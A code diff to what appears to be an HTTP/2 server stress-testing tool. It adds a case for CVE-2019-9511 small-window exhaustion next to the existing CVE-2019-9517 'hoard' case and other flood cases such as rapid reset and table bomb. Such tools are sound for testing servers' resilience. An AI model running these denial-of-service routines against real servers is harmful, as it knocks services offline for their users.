@@ -74,6 +74,12 @@ class Attacker:
     def goes_on(self):
         return not self.closed and self.goaway is None and time.monotonic() < Attacker.until
 
+    def is_cut(self):
+        """Whether the server is gone, whatever it has sent that is not read."""
+        looked = select.poll()
+        looked.register(self.socket, select.POLLRDHUP)
+        return bool(looked.poll(0))
+
     def look(self, seconds):
         end = time.monotonic() + seconds
         while not self.closed:
@@ -309,11 +315,11 @@ def table_bomb(to, path):
     return it.end()
 
 
-def hoard(to, path, connections):
-    """Windows as wide as there are, for as many answers as may be asked for, and a socket that nobody reads
-    (CVE-2019-9517)."""
-    wide = setting(INITIAL_WINDOW_SIZE, WINDOW_MAX) + opened(0, WINDOW_MAX - WINDOW_DEFAULT)
-    them = [Attacker(*to, wide, takes=4096) for _ in range(connections)]
+def hoard(to, path, connections, window=WINDOW_MAX):
+    """As many answers as may be asked for. Windows as wide as there are, and a socket that nobody reads (CVE-2019-9517); or
+    windows of next to nothing (CVE-2019-9511)."""
+    windows = setting(INITIAL_WINDOW_SIZE, window) + opened(0, WINDOW_MAX - WINDOW_DEFAULT)
+    them = [Attacker(*to, windows, takes=4096) for _ in range(connections)]
     for it in them:
         it.most = 100
         it.socket.sendall(b"".join(it.ask(stream, path) for stream in range(1, 2 * it.most, 2)))
@@ -325,10 +331,10 @@ def hoard(to, path, connections):
         if now != unread:
             unread, since = now, time.monotonic()
         time.sleep(0.05)
-    # They wait still: what the first has read by now is all that it is given, and it is given more as soon as it reads.
-    it = them[0]
-    it.wait(lambda: it.answers == it.most)
-    return it.end(0)
+    # They wait still: what one has read by now is all that it is given, and it is given more as soon as it reads.
+    left = [it for it in them if not it.is_cut()]
+    left[0].wait(lambda: left[0].answers == left[0].most)
+    return {**left[0].end(0), "cut": connections - len(left)}
 
 
 def one_hoard(to, path):
@@ -339,10 +345,14 @@ def twenty_hoards(to, path):
     return hoard(to, path, 20)
 
 
+def twenty_narrow_hoards(to, path):
+    return hoard(to, path, 20, window=1)
+
+
 CASES = {case.__name__.replace("_", "-"): case
          for case in (rapid_reset, made_to_reset, continuation, empty_continuation, overflow, nothing_more, too_wide,
                       tiny_windows, seesaw, settings, pings, empty_data, past_the_window, table_bomb, one_hoard,
-                      twenty_hoards)}
+                      twenty_hoards, twenty_narrow_hoards)}
 
 if __name__ == "__main__":
     case, host, port, path = sys.argv[1:]
